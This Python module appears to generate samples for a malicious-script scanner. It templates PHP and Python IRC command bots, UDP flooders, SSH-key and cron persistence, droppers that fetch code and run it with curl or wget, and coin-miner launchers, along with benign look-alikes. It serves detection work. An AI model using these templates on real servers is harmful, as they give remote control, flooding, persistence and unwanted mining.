"""Bots and persistence scripts, round 2 (used by gen_variants.py and scan_scripts.sh).

A third set of script templates, written from the technique descriptions only
(without opening the corpus bots or the blind held-out set): PHP CLI IRC bots,
UDP flooders in PHP, Perl and Python, SSH key persistence, cron persistence of a
fetched or hidden program, download-and-run droppers in several languages and
coin-miner launchers started from PHP or Python. And the look-alikes a hosting
server really holds: IRC notification bots that post build results, UDP metric
agents and health checks, ssh-copy-id-like admin tools, package cron
installers, deployment scripts that verify a checksum.

Everything here is text written to a temp dir and scanned, never run. Hosts are
the documentation networks (RFC 5737) and .invalid names.
"""

import string

TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]


def _ip(r):
    return r.choice(TEST_NET) % r.randint(2, 250)


def _id(r, n=None):
    w = r.choice(["sock", "conn", "link", "fp", "chan", "srv", "x", "h", "res", "io", "peer", "c0",
                  "data", "line", "buf", "tmp", "obj", "q", "zz", "m"])
    return w + "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(0, 3)))


def _names(r, k):
    out = []
    while len(out) < k:
        n = _id(r)
        if n not in out:
            out.append(n)
    return out


def _key(r):
    alpha = string.ascii_letters + string.digits + "+/"
    kind = r.choice(["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI",
                     "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBB"])
    return kind + "".join(r.choice(alpha) for _ in range(r.choice([48, 68, 200]))) + " " + r.choice(
        ["root@localhost", "backup", "x@x", "admin@srv", ""])


def _php_head(r):
    return r.choice(["<?php\n", "#!/usr/bin/php\n<?php\n", "#!/usr/bin/env php\n<?php\n", "<?php\n// cli\n"])


# ---------------------------------------------------------------------------
# PHP CLI IRC bots


def t_php_irc_bot(g):
    """A PHP CLI IRC bot: connects to a server, registers, joins a channel, answers
    PING and runs what PRIVMSG lines order (a shell command, a flood, a download)."""
    r = g.rng
    s, l, p, c, a = _names(r, 5)
    v = {"s": s, "l": l, "p": p, "c": c, "a": a, "h": r.choice(["irc.example.invalid", _ip(r)]),
         "port": r.choice([6667, 6697, 7000, 443]), "nick": r.choice(["php", "w", "bot"]) + str(r.randint(10, 999)),
         "ch": r.choice(["#x", "#upd", "#priv", "#b0ts"]), "t": r.choice(["!", ".", "@"])}
    conn = r.choice([
        "$%(s)s = fsockopen('%(h)s', %(port)d, $en, $es, 30);\n",
        "$%(s)s = @fsockopen(\"%(h)s\", %(port)d);\n",
        "$%(s)s = stream_socket_client('tcp://%(h)s:%(port)d', $en, $es, 20);\n",
        "$%(s)s = fsockopen('ssl://%(h)s', %(port)d);\n",
    ]) % v
    send = r.choice(["fputs", "fwrite"])
    v["send"] = send
    reg = r.choice([
        "%(send)s($%(s)s, \"NICK %(nick)s\\r\\n\");\n%(send)s($%(s)s, \"USER %(nick)s 8 * :%(nick)s\\r\\n\");\n",
        "%(send)s($%(s)s, \"USER \" . $n . \" 0 * :\" . $n . \"\\r\\n\");\n%(send)s($%(s)s, \"NICK \" . $n . \"\\r\\n\");\n",
        "foreach (array(\"NICK %(nick)s\", \"USER %(nick)s %(nick)s %(nick)s :php\") as $r) %(send)s($%(s)s, $r . \"\\r\\n\");\n",
    ]) % v
    join = "%(send)s($%(s)s, \"JOIN %(ch)s\\r\\n\");\n" % v
    run = r.choice([
        "shell_exec($%(a)s)", "`$%(a)s`", "implode(\"\\n\", (exec($%(a)s, $o) !== false) ? $o : array())",
        "system($%(a)s)", "passthru($%(a)s)",
    ]) % v
    out = ("foreach (explode(\"\\n\", (string)%s) as $o1) %s($%s, \"PRIVMSG %s :\" . $o1 . \"\\r\\n\");\n"
           % (run, send, s, v["ch"]))
    flood = ("$end = time() + (int)$%(p)s[5];\n"
             "            $u = fsockopen('udp://' . $%(p)s[4], rand(1, 65535));\n"
             "            while (time() < $end) fwrite($u, str_repeat('X', 1024));\n") % v
    dl = ("file_put_contents($%(p)s[5], file_get_contents($%(p)s[4]));\n") % v
    loop_style = r.randrange(3)
    if loop_style == 0:
        body = (
            "while (!feof($%(s)s)) {\n"
            "    $%(l)s = trim(fgets($%(s)s, 512));\n"
            "    $%(p)s = explode(' ', $%(l)s);\n"
            "    if ($%(p)s[0] == 'PING') { %(send)s($%(s)s, \"PONG \" . $%(p)s[1] . \"\\r\\n\"); continue; }\n"
            "    if (isset($%(p)s[1]) && $%(p)s[1] == 'PRIVMSG') {\n"
            "        $%(c)s = ltrim($%(p)s[3], ':');\n"
            "        $%(a)s = implode(' ', array_slice($%(p)s, 4));\n"
            "        switch ($%(c)s) {\n"
            "        case '%(t)ssh':\n            OUT"
            "            break;\n"
            "        case '%(t)sudp':\n            FLOOD"
            "            break;\n"
            "        case '%(t)sget':\n            DL"
            "            break;\n"
            "        }\n"
            "    }\n"
            "}\n") % v
    elif loop_style == 1:
        body = (
            "while ($%(l)s = fgets($%(s)s)) {\n"
            "    if (preg_match('/^PING :?(.*)/', $%(l)s, $m)) %(send)s($%(s)s, \"PONG :$m[1]\\r\\n\");\n"
            "    if (preg_match('/PRIVMSG (\\S+) :%(t)s(\\w+) ?(.*)/', $%(l)s, $m)) {\n"
            "        $%(c)s = $m[2]; $%(a)s = trim($m[3]); $%(p)s = array_merge(array(0, 0, 0, 0), explode(' ', $%(a)s));\n"
            "        if ($%(c)s == 'exec') { OUT }\n"
            "        elseif ($%(c)s == 'flood') { FLOOD }\n"
            "        elseif ($%(c)s == 'dl') { DL }\n"
            "    }\n"
            "}\n") % v
    else:
        body = (
            "for (;;) {\n"
            "    $%(l)s = fgets($%(s)s, 1024);\n"
            "    if ($%(l)s === false) break;\n"
            "    if (strpos($%(l)s, 'PING') === 0) { %(send)s($%(s)s, str_replace('PING', 'PONG', $%(l)s)); }\n"
            "    $%(p)s = preg_split('/\\s+/', trim($%(l)s));\n"
            "    if (count($%(p)s) > 3 && strtoupper($%(p)s[1]) === 'PRIVMSG' && $%(p)s[3] === ':%(t)scmd') {\n"
            "        $%(a)s = implode(' ', array_slice($%(p)s, 4));\n"
            "        OUT"
            "    }\n"
            "}\n") % v
    body = body.replace("OUT", out).replace("FLOOD", flood).replace("DL", dl)
    pre = r.choice(["set_time_limit(0);\n", "set_time_limit(0);\nignore_user_abort(true);\n", "@error_reporting(0);\n"])
    pre += "$n = '%s';\n" % v["nick"]
    return _php_head(r) + pre + conn + reg + join + body


def t_irc_dispatch(g):
    """IRC bots whose orders go through a parser: Python splitting the line and
    joining the arguments into a command, a PHP class dispatching to cmd_* methods."""
    r = g.rng
    s, f, p, o = _names(r, 4)
    v = {"s": s, "f": f, "p": p, "o": o, "h": r.choice(["irc.example.invalid", _ip(r)]),
         "n": r.choice(["py", "zz", "u"]) + str(r.randint(10, 99)), "ch": r.choice(["#a", "#ops2", "#z"]),
         "t": r.choice([".run", "!x", "@sh"])}
    if r.random() < 0.5:
        g.lang = "py"
        run = r.choice(["subprocess.getoutput(\" \".join(%(p)s[4:]))",
                        "os.popen(' '.join(%(p)s[4:])).read()",
                        "subprocess.check_output(' '.join(%(p)s[4:]), shell=True).decode()"]) % v
        return ("#!/usr/bin/env python3\nimport socket, subprocess, os\n"
                "%(s)s = socket.socket()\n%(s)s.connect((\"%(h)s\", 6667))\n"
                "%(s)s.send(b\"NICK %(n)s\\r\\n\")\n%(s)s.send(b\"USER %(n)s 0 * :%(n)s\\r\\n\")\n"
                "%(s)s.send(b\"JOIN %(ch)s\\r\\n\")\n%(f)s = %(s)s.makefile(\"r\", encoding=\"latin-1\")\n"
                "for raw in %(f)s:\n    %(p)s = raw.split()\n"
                "    if %(p)s and %(p)s[0] == \"PING\":\n        %(s)s.send((\"PONG \" + %(p)s[1] + \"\\r\\n\").encode())\n"
                "    elif len(%(p)s) > 4 and %(p)s[1] == \"PRIVMSG\" and %(p)s[3] == \":%(t)s\":\n"
                "        %(o)s = RUN\n        for ln in %(o)s.splitlines():\n"
                "            %(s)s.send((\"PRIVMSG %(ch)s :\" + ln + \"\\r\\n\").encode())\n" % v).replace("RUN", run)
    g.lang = "php"
    return ("<?php\nclass %(o)s {\n    private $s;\n"
            "    function cmd_sh($a) { return shell_exec(trim($a)); }\n"
            "    function cmd_get($a) { list($u, $f) = explode(' ', $a); return copy($u, $f) ? 'ok' : 'fail'; }\n"
            "    function send($l) { fwrite($this->s, $l . \"\\r\\n\"); }\n    function run() {\n"
            "        $this->s = fsockopen('%(h)s', 6667);\n        $this->send('NICK %(n)s');\n"
            "        $this->send('USER %(n)s 0 * :x');\n        $this->send('JOIN %(ch)s');\n"
            "        while (!feof($this->s)) {\n            $l = fgets($this->s);\n"
            "            if (substr($l, 0, 4) == 'PING') { $this->send('PONG' . substr($l, 4)); continue; }\n"
            "            if (preg_match('/ PRIVMSG (#\\S+) :\\.(\\w+) (.*)$/', trim($l), $m) && method_exists($this, 'cmd_' . $m[2])) {\n"
            "                $r = call_user_func(array($this, 'cmd_' . $m[2]), $m[3]);\n"
            "                $this->send(\"PRIVMSG $m[1] :\" . $r);\n            }\n        }\n    }\n}\n"
            "(new %(o)s)->run();\n" % v)


# ---------------------------------------------------------------------------
# UDP flooders


def t_udp_flood(g):
    """A UDP flood to a target from argv or the request, for a number of seconds."""
    r = g.rng
    a, b, c, d = _names(r, 4)
    v = {"a": a, "b": b, "c": c, "d": d, "n": r.choice([512, 1024, 1400, 65000])}
    lang = r.choice(["php", "php", "pl", "py"])
    g.lang = lang
    if lang == "php":
        src = r.choice(["$_GET['host']", "$_POST['ip']", "$argv[1]", "$_REQUEST['t']"])
        dur = r.choice(["$_GET['time']", "$argv[2]", "(int)$_POST['s']", "60"])
        v.update(src=src, dur=dur)
        open_ = r.choice([
            "$%(c)s = fsockopen('udp://' . $%(a)s, $%(d)s, $e, $s, 5);\n",
            "$%(c)s = stream_socket_client(\"udp://$%(a)s:$%(d)s\");\n",
            "$%(c)s = fsockopen(\"udp://{$%(a)s}\", $%(d)s);\n",
        ])
        loop = r.choice([
            "while (time() < $%(b)s) {\n    $%(d)s = rand(1, 65000);\n    " + open_ +
            "    fwrite($%(c)s, $pk);\n    fclose($%(c)s);\n}\n",
            "$%(d)s = 53;\n" + open_ + "for ($i = 0; time() <= $%(b)s; $i++) {\n    fwrite($%(c)s, $pk);\n}\n",
            "$%(c)s = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP);\n"
            "while (1) {\n    if (time() > $%(b)s) break;\n"
            "    socket_sendto($%(c)s, $pk, strlen($pk), 0, $%(a)s, rand(1, 65535));\n}\n",
        ])
        code = ("<?php\nset_time_limit(0);\nignore_user_abort(1);\n$%(a)s = %(src)s;\n$%(b)s = time() + %(dur)s;\n"
                "$pk = str_repeat(chr(rand(0, 255)), %(n)d);\n" + loop +
                "echo 'done';\n")
        return (code % v).replace("%(c)s", c).replace("%(a)s", a).replace("%(d)s", d)
    if lang == "pl":
        code = r.choice([
            "#!/usr/bin/perl\nuse Socket;\nmy ($%(a)s, $%(d)s, $%(b)s) = @ARGV;\n"
            "socket(my $%(c)s, PF_INET, SOCK_DGRAM, 17);\nmy $end = time() + $%(b)s;\n"
            "my $iaddr = inet_aton($%(a)s);\n"
            "while (time() < $end) {\n    my $port = $%(d)s ? $%(d)s : int(rand(65500)) + 1;\n"
            "    send($%(c)s, 'A' x %(n)d, 0, pack_sockaddr_in($port, $iaddr));\n}\n",
            "#!/usr/bin/perl\nuse IO::Socket::INET;\n$%(a)s = shift; $%(b)s = shift || 30;\n"
            "$%(c)s = IO::Socket::INET->new(PeerAddr => $%(a)s, PeerPort => 80, Proto => 'udp') or die;\n"
            "$t = time + $%(b)s;\nfor (;;) { last if time > $t; $%(c)s->send('x' x %(n)d); }\n",
        ])
        return code % v
    code = r.choice([
        "#!/usr/bin/env python3\nimport socket, sys, time\n%(a)s = sys.argv[1]\n%(d)s = int(sys.argv[2])\n"
        "%(b)s = time.time() + int(sys.argv[3])\n%(c)s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "data = b'\\x00' * %(n)d\nwhile time.time() < %(b)s:\n    %(c)s.sendto(data, (%(a)s, %(d)s))\n",
        "import socket as S, sys, time, os\n\ndef go(t, secs):\n    k = S.socket(S.AF_INET, S.SOCK_DGRAM)\n"
        "    stop = time.time() + secs\n    while True:\n        if time.time() > stop:\n            break\n"
        "        k.sendto(os.urandom(%(n)d), (t, 53))\n\nif __name__ == '__main__':\n"
        "    go(sys.argv[1], float(sys.argv[2]))\n",
        "#!/usr/bin/python3\nimport socket, random, time\n%(a)s = input('target: ')\n"
        "%(b)s = int(input('seconds: '))\n%(c)s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "start = time.time()\nwhile time.time() - start < %(b)s:\n"
        "    %(c)s.sendto(random._urandom(%(n)d), (%(a)s, random.randint(1, 65535)))\n",
    ])
    return code % v


# ---------------------------------------------------------------------------
# SSH key persistence


def t_sshkey_persist(g):
    """An attacker's public key appended to authorized_keys, often locked with chattr."""
    r = g.rng
    k = _key(r)
    a, b = _names(r, 2)
    v = {"k": k, "a": a, "b": b, "ip": _ip(r)}
    code = r.choice([
        "#!/bin/sh\nmkdir -p ~/.ssh\necho \"%(k)s\" >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n"
        "chattr +i ~/.ssh/authorized_keys 2>/dev/null\n",
        "#!/bin/bash\nK='%(k)s'\nfor d in /root /home/*; do\n  mkdir -p \"$d/.ssh\" 2>/dev/null\n"
        "  grep -q \"$K\" \"$d/.ssh/authorized_keys\" 2>/dev/null || echo \"$K\" >> \"$d/.ssh/authorized_keys\"\ndone\n",
        "#!/bin/sh\nchattr -ia /root/.ssh/authorized_keys 2>/dev/null\n"
        "curl -fsSL http://%(ip)s/k.pub >> /root/.ssh/authorized_keys\nchattr +ia /root/.ssh/authorized_keys\n",
        "<?php\n$%(a)s = getenv('HOME') ?: '/home/' . get_current_user();\n@mkdir($%(a)s . '/.ssh', 0700);\n"
        "file_put_contents($%(a)s . '/.ssh/authorized_keys', \"\\n%(k)s\\n\", FILE_APPEND);\n"
        "@chmod($%(a)s . '/.ssh/authorized_keys', 0600);\necho 'ok';\n",
        "<?php\nif (isset($_POST['k'])) {\n    $%(b)s = fopen($_SERVER['DOCUMENT_ROOT'] . '/../.ssh/authorized_keys', 'a');\n"
        "    fwrite($%(b)s, $_POST['k'] . \"\\n\");\n    fclose($%(b)s);\n}\n",
        "#!/usr/bin/env python3\nimport os\n%(a)s = os.path.expanduser('~/.ssh')\nos.makedirs(%(a)s, exist_ok=True)\n"
        "with open(os.path.join(%(a)s, 'authorized_keys'), 'a') as %(b)s:\n    %(b)s.write('%(k)s\\n')\n"
        "os.chmod(os.path.join(%(a)s, 'authorized_keys'), 0o600)\nos.system('chattr +i ' + %(a)s + '/authorized_keys')\n",
        "#!/usr/bin/perl\nmy $%(a)s = \"$ENV{HOME}/.ssh/authorized_keys\";\nmkdir \"$ENV{HOME}/.ssh\", 0700;\n"
        "open(my $%(b)s, '>>', $%(a)s) or exit;\nprint $%(b)s \"%(k)s\\n\";\nclose $%(b)s;\nchmod 0600, $%(a)s;\n",
        "<?php\nshell_exec('mkdir -p ~/.ssh; echo \"%(k)s\" >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys');\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
    return code % v


# ---------------------------------------------------------------------------
# cron persistence


def t_cron_persist(g):
    """A crontab line (or /etc/cron.d file, or @reboot) that restarts a downloader or
    a hidden binary."""
    r = g.rng
    ip = _ip(r)
    what = r.choice([
        "curl -fsSL http://%s/u.sh | sh" % ip,
        "wget -q -O- http://%s:8080/s | bash" % ip,
        "/tmp/.X11-unix/.%s" % r.choice(["x", "sshd", "kd"]),
        "$HOME/.cache/.%s >/dev/null 2>&1" % r.choice(["upd", "sys"]),
        "cd /dev/shm && ./.%s" % r.choice(["k", "i"]),
        "wget -q -O - http://%s/p | perl" % ip,
        "curl -s http://%s/x.py | python3 -" % ip,
        "(wget -qO /tmp/.u http://%s/u || curl -so /tmp/.u http://%s/u) && chmod +x /tmp/.u && /tmp/.u" % (ip, ip),
    ])
    when = r.choice(["* * * * *", "*/5 * * * *", "@reboot", "*/15 * * * *", "0 * * * *"])
    v = {"w": what, "t": when, "f": r.choice(["sys", "apt-update", "0hourly2", ".x"])}
    code = r.choice([
        "#!/bin/sh\ncrontab -l 2>/dev/null | { cat; echo \"%(t)s %(w)s\"; } | crontab -\n",
        "#!/bin/bash\ncrontab -l > /tmp/.c 2>/dev/null\necho '%(t)s %(w)s' >> /tmp/.c\ncrontab /tmp/.c\nrm -f /tmp/.c\n",
        "#!/bin/sh\necho '%(t)s root %(w)s' > /etc/cron.d/%(f)s\nchmod 644 /etc/cron.d/%(f)s\n",
        "#!/bin/sh\ncat > /etc/cron.d/%(f)s <<EOF\nSHELL=/bin/sh\n%(t)s root %(w)s\nEOF\n",
        "#!/bin/sh\n(\n  crontab -l 2>/dev/null | grep -v '%(f)s'\n  echo '%(t)s %(w)s #%(f)s'\n) | crontab -\n",
        "#!/usr/bin/env python3\nimport subprocess\nline = '%(t)s %(w)s\\n'\n"
        "old = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
        "subprocess.run(['crontab', '-'], input=old + line, text=True)\n",
        "<?php\n$c = '%(t)s %(w)s';\nexec('(crontab -l 2>/dev/null; echo \"' . $c . '\") | crontab -');\n",
        "<?php\n$t = tempnam(sys_get_temp_dir(), 'c');\nfile_put_contents($t, shell_exec('crontab -l') . \"%(t)s %(w)s\\n\");\n"
        "shell_exec('crontab ' . $t);\nunlink($t);\n",
        "#!/usr/bin/perl\nopen(my $c, '|-', 'crontab -') or die;\nprint $c `crontab -l 2>/dev/null`;\n"
        "print $c \"%(t)s %(w)s\\n\";\nclose $c;\n",
        "#!/bin/sh\necho '%(t)s %(w)s' >> /var/spool/cron/crontabs/$(whoami)\n",
        "#!/bin/sh\n(crontab -l; echo \"%(t)s %(w)s\") | crontab -; echo ok\n",
        "#!/bin/sh\nprintf '%%s\\n' '%(t)s %(w)s' > /tmp/.ct && crontab -u $(id -un) /tmp/.ct\n",
        "#!/usr/bin/perl\nsystem(\"(crontab -l 2>/dev/null; echo '%(t)s %(w)s') | crontab -\");\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
    return code % v


# ---------------------------------------------------------------------------
# droppers


def t_dropper(g):
    """Download a program to a temp dir, make it executable, run it in the background
    and often remove it."""
    r = g.rng
    ip = _ip(r)
    u = r.choice(["http://%s/x86" % ip, "http://%s:8000/b" % ip, "https://cdn.example.invalid/%s" % r.choice(["a", "j.bin"]),
                  "ftp://%s/k" % ip])
    f = r.choice(["/tmp/.x", "/dev/shm/.k", "/var/tmp/.sysd", "/tmp/kworker", "/dev/shm/php-fpm"])
    a, b = _names(r, 2)
    v = {"u": u, "f": f, "a": a, "b": b}
    code = r.choice([
        "#!/bin/sh\n%(a)s=%(f)s\n%(b)s=%(u)s\nwget -q \"$%(b)s\" -O \"$%(a)s\" || curl -s -o \"$%(a)s\" \"$%(b)s\"\n"
        "chmod +x \"$%(a)s\"\nnohup \"$%(a)s\" >/dev/null 2>&1 &\nsleep 2\nrm -f \"$%(a)s\"\n",
        "#!/bin/bash\ncd /dev/shm || cd /tmp\ncurl -sk %(u)s -o .%(a)s\nchmod 755 .%(a)s\n./.%(a)s &\nrm -f .%(a)s\n",
        "#!/bin/sh\nfor d in /dev/shm /tmp /var/tmp; do [ -w $d ] && cd $d && break; done\n"
        "wget -q %(u)s -O %(a)s\nchmod +x %(a)s\nsetsid ./%(a)s &\n",
        "#!/usr/bin/env python3\nimport os, subprocess, urllib.request\n%(a)s = '%(f)s'\n"
        "with open(%(a)s, 'wb') as fh:\n    fh.write(urllib.request.urlopen('%(u)s').read())\n"
        "os.system('chmod +x ' + %(a)s)\nsubprocess.Popen([%(a)s], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "os.remove(%(a)s)\n",
        "#!/usr/bin/perl\nuse LWP::UserAgent;\nmy $%(b)s = LWP::UserAgent->new;\n"
        "$%(b)s->get('%(u)s', ':content_file' => '%(f)s');\nsystem('chmod +x %(f)s; %(f)s &');\n",
        "<?php\n$%(a)s = '%(f)s';\nfile_put_contents($%(a)s, file_get_contents('%(u)s'));\nchmod($%(a)s, 0755);\n"
        "exec($%(a)s . ' > /dev/null 2>&1 &');\n@unlink($%(a)s);\n",
        "<?php\n$%(b)s = sys_get_temp_dir() . '/.%(a)s';\ncopy('%(u)s', $%(b)s);\n@chmod($%(b)s, 0777);\n"
        "shell_exec('nohup ' . $%(b)s . ' >/dev/null 2>&1 &');\n",
        "#!/bin/sh\nwget -q -O %(f)s %(u)s\nchmod +x %(f)s\n%(f)s\n",
        "<?php\n$%(b)s = '%(u)s';\n$%(a)s = file_get_contents($%(b)s);\nfile_put_contents('%(f)s', $%(a)s);\n"
        "chmod('%(f)s', 0755);\nsystem('%(f)s');\n",
        "#!/usr/bin/perl\nuse LWP::Simple;\ngetstore('%(u)s', '%(f)s');\nchmod 0755, '%(f)s';\nexec '%(f)s';\n",
        "#!/usr/bin/env python3\nimport urllib.request as u, os, subprocess\nu.urlretrieve('%(u)s', '%(f)s')\n"
        "os.system('chmod 755 %(f)s')\nsubprocess.call(['%(f)s'])\n",
        "#!/usr/bin/env python3\nimport requests, os, stat, subprocess\np = '%(f)s'\n"
        "open(p, 'wb').write(requests.get('%(u)s', verify=False).content)\n"
        "os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nsubprocess.Popen(['nohup', p], start_new_session=True)\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
    return code % v


# ---------------------------------------------------------------------------
# miner launchers from code


def t_miner_code(g):
    """A coin miner started from PHP or Python: the pool and wallet as arguments."""
    r = g.rng
    pool = r.choice(["stratum+tcp://pool.example.invalid:3333", "%s:14444" % _ip(r), "stratum+ssl://xmr.example.invalid:443"])
    wal = "4" + "".join(r.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
    b = r.choice(["./kthreadd", "/tmp/.x/xmrig", "/dev/shm/.m/sysupd", "./php-fpm"])
    v = {"p": pool, "w": wal, "b": b}
    code = r.choice([
        "<?php\nexec('nohup %(b)s -o %(p)s -u %(w)s -p x --donate-level 1 > /dev/null 2>&1 &');\n",
        "<?php\n$a = array('-o', '%(p)s', '-u', '%(w)s', '-k', '-B');\n"
        "shell_exec('%(b)s ' . implode(' ', $a));\n",
        "#!/usr/bin/env python3\nimport subprocess\nsubprocess.Popen(['%(b)s', '-o', '%(p)s', '-u', '%(w)s', '-p', 'x',"
        " '--cpu-max-threads-hint', '50'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
        "#!/usr/bin/env python3\nimport os\nos.system('pkill -f xmrig; %(b)s --url=%(p)s --user=%(w)s --pass=x -B')\n",
    ])
    g.lang = "php" if code.startswith("<?php") else "py"
    return code % v


# ---------------------------------------------------------------------------
# benign look-alikes


def b_irc_notify(g):
    """A CI notification bot: connects, registers, waits for the welcome, posts the
    build result (from a fixed git command) and quits."""
    r = g.rng
    ch = r.choice(["#ci", "#builds", "#ops"])
    code = r.choice([
        "<?php\n// post the build result to IRC (CI hook)\n$s = fsockopen('irc.example.invalid', 6667, $e, $m, 10);\n"
        "fwrite($s, \"NICK ci-bot\\r\\nUSER ci-bot 0 * :CI notifier\\r\\n\");\n"
        "while (($line = fgets($s, 512)) !== false) {\n"
        "    if (strpos($line, 'PING') === 0) fwrite($s, 'PONG ' . substr($line, 5));\n"
        "    if (strpos($line, ' 001 ') !== false) break;\n}\n"
        "$msg = trim(shell_exec('git log -1 --pretty=%s'));\n"
        "fwrite($s, \"JOIN " + ch + "\\r\\nPRIVMSG " + ch + " :build ok: $msg\\r\\nQUIT :bye\\r\\n\");\nfclose($s);\n",
        "#!/usr/bin/env python3\n\"\"\"Announce a deploy in the ops channel.\"\"\"\nimport socket, subprocess, sys\n"
        "s = socket.create_connection(('irc.example.invalid', 6667))\n"
        "s.sendall(b'NICK deploybot\\r\\nUSER deploybot 0 * :deploy\\r\\n')\nbuf = b''\n"
        "while b' 001 ' not in buf:\n    buf = s.recv(4096)\n    if buf.startswith(b'PING'):\n"
        "        s.sendall(b'PONG' + buf[4:])\n"
        "rev = subprocess.check_output(['git', 'rev-parse', '--short', 'HEAD']).decode().strip()\n"
        "s.sendall(('JOIN " + ch + "\\r\\nPRIVMSG " + ch + " :deployed %s by %s\\r\\nQUIT\\r\\n' % (rev, sys.argv[1])).encode())\n",
        "#!/usr/bin/perl\nuse strict;\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.invalid:6667') or die;\n"
        "print $s \"NICK nagios\\r\\nUSER nagios 0 * :alerts\\r\\n\";\nwhile (my $l = <$s>) {\n"
        "    print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n    last if $l =~ / 001 /;\n}\n"
        "my $state = `cat /var/lib/nagios/status.txt`;\n"
        "print $s \"JOIN " + ch + "\\r\\nPRIVMSG " + ch + " :$ARGV[0]\\r\\nQUIT\\r\\n\";\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else "pl")
    return code


def b_udp_metrics(g):
    """A statsd/syslog-style metrics agent: a datagram every few seconds to a fixed
    collector, and a one-shot DNS health check."""
    r = g.rng
    code = r.choice([
        "#!/usr/bin/env python3\nimport socket, time, os\nSTATSD = ('127.0.0.1', 8125)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n"
        "    load = os.getloadavg()[0]\n    s.sendto(('host.load:%f|g' % load).encode(), STATSD)\n    time.sleep(10)\n",
        "<?php\n// send one counter to the local statsd\n$fp = fsockopen('udp://127.0.0.1', 8125, $en, $es, 1);\n"
        "if ($fp) { fwrite($fp, 'app.signup:1|c'); fclose($fp); }\n",
        "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'logs.example.invalid',"
        " PeerPort => 514, Proto => 'udp');\nmy $end = time + 3600;\nwhile (time < $end) {\n"
        "    $s->send(\"<13>heartbeat\");\n    sleep 60;\n}\n",
        "#!/usr/bin/env python3\n\"\"\"Check that each resolver answers (one query per server).\"\"\"\nimport socket, sys\n"
        "for server in sys.argv[1:]:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.settimeout(2)\n"
        "    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x01', (server, 53))\n"
        "    try:\n        s.recvfrom(512)\n        print(server, 'ok')\n    except socket.timeout:\n        print(server, 'timeout')\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else "pl")
    return code


def b_ssh_copy_id(g):
    """An ssh-copy-id-like admin tool (the key from a file the admin names) and an
    authorized_keys auditor."""
    r = g.rng
    code = r.choice([
        "#!/bin/sh\n# install-key: copy my public key to a host\nKEY=${2:-$HOME/.ssh/id_ed25519.pub}\n"
        "[ -r \"$KEY\" ] || { echo \"no key $KEY\"; exit 1; }\n"
        "ssh \"$1\" 'umask 077; mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys' < \"$KEY\"\n",
        "#!/usr/bin/env python3\n\"\"\"List the keys in every user's authorized_keys (audit).\"\"\"\nimport glob\n"
        "for path in glob.glob('/home/*/.ssh/authorized_keys'):\n    with open(path) as f:\n"
        "        for line in f:\n            if line.strip() and not line.startswith('#'):\n"
        "                print(path, line.split()[-1])\n",
        "#!/bin/bash\n# rotate-keys: write authorized_keys from the reviewed team file\nset -e\n"
        "install -m 600 -o \"$1\" /etc/ssh/team_keys/\"$1\".pub /home/\"$1\"/.ssh/authorized_keys\n",
    ])
    g.lang = "py" if "python" in code else "sh"
    return code


def b_cron_installer(g):
    """A package's cron installer, a backup job and a health-check ping (fetched but
    not run)."""
    r = g.rng
    code = r.choice([
        "#!/bin/sh\nset -e\ncat > /etc/cron.d/myapp <<EOF\n# myapp maintenance\n17 3 * * * www-data /usr/bin/php /var/www/myapp/cron.php > /dev/null\nEOF\n"
        "chmod 644 /etc/cron.d/myapp\n",
        "#!/bin/bash\n(crontab -l 2>/dev/null; echo \"30 2 * * * $PWD/backup.sh >> $PWD/backup.log 2>&1\") | crontab -\n",
        "#!/bin/sh\n(crontab -l 2>/dev/null | grep -v hc-ping; echo '*/5 * * * * curl -fsS -m 10 --retry 3 https://hc-ping.example.invalid/abc > /dev/null') | crontab -\n",
        "#!/usr/bin/env python3\nimport subprocess\nline = '0 4 * * * /usr/local/bin/certrenew --quiet\\n'\n"
        "cur = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
        "if line not in cur:\n    subprocess.run(['crontab', '-'], input=cur + line, text=True, check=True)\n",
    ])
    g.lang = "py" if "python" in code else "sh"
    return code


def b_verified_download(g):
    """A deployment script: download a release to a temp dir, verify its checksum,
    install it."""
    r = g.rng
    code = r.choice([
        "#!/bin/sh\nset -e\nV=1.4.2\ncurl -fsSLo /tmp/tool.tar.gz https://releases.example.invalid/tool-$V.tar.gz\n"
        "echo \"3f2a9c0e5b...  /tmp/tool.tar.gz\" | sha256sum -c -\ntar -C /tmp -xzf /tmp/tool.tar.gz\n"
        "chmod +x /tmp/tool\nsudo mv /tmp/tool /usr/local/bin/tool\n/usr/local/bin/tool --version\n",
